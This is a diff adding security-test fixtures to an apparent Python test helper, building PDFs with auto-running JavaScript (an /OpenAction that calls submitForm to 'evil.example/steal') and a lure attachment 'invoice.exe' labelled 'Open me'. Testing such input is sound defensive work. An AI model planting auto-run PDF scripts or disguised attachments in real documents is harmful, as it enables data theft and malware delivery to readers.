@@ -59,3 +59,52 @@ Early years provision: Good
 What is it like to attend this school?
 Pupils enjoy coming to this school.
 """
+
+
+# Hostile PDFs (tests/security): active content a viewer might run or offer to open.
+JS_PAYLOAD = "app.alert('pwned'); this.submitForm('https://evil.example/steal');"
+
+
+def pdf_with_javascript(lines: list[str]) -> bytes:
+    """A text PDF whose catalogue runs JavaScript on opening (/OpenAction and the /JavaScript name tree).
+    Written object by object: fpdf2 cannot add document JavaScript."""
+    content = "BT /F1 11 Tf 14 TL 60 780 Td " + " ".join(f"({_pdf_string(line)}) Tj T*" for line in lines) + " ET"
+    action = f"<< /Type /Action /S /JavaScript /JS ({_pdf_string(JS_PAYLOAD)}) >>"
+    return _raw_pdf(
+        [
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(run) 5 0 R] >> >> >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
+            " /Resources << /Font << /F1 6 0 R >> >> >>",
+            f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
+            action,
+            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        ]
+    )
+
+
+def pdf_with_embedded_file(lines: list[str], payload: bytes = b"MZ\x90\x00 not really a program") -> bytes:
+    """A text PDF carrying an attached file (an 'invoice.exe') in its embedded-files name tree."""
+    pdf = FPDF()
+    pdf.set_font("Helvetica", size=11)
+    pdf.add_page()
+    pdf.multi_cell(0, 6, "\n".join(lines))
+    pdf.embed_file(basename="invoice.exe", bytes=payload, desc="Open me")
+    return bytes(pdf.output())
+
+
+def _pdf_string(text: str) -> str:
+    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
+
+
+def _raw_pdf(objects: list[str]) -> bytes:
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
+    xref = len(out)
+    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
+    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    return bytes(out)
